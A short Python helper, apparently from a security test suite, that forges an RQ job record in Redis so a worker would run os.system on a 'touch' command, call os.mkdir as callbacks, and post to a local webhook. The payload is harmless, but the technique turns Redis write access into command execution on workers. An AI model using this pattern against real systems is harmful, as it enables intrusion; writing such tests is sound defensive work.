"""Forge a job's record in RQ, as an intruder with write access to Redis could."""

import json
from pathlib import Path

import redis


def forge(client: redis.Redis, job: str, trace: Path) -> None:
    """Let the record name functions that leave a trace, instead of the work."""
    call = ["os.system", None, [f"touch {trace}"], {}]
    hooks = [{"url": "http://127.0.0.1:1/", "statuses": ["finished", "failed"]}]
    forged = {
        "data": json.dumps(call),
        "success_callback_name": "os.mkdir",
        "failure_callback_name": "os.mkdir",
        "stopped_callback_name": "os.mkdir",
        "webhooks": json.dumps(hooks),
    }
    client.hset(f"rq:job:{job}", mapping=forged)
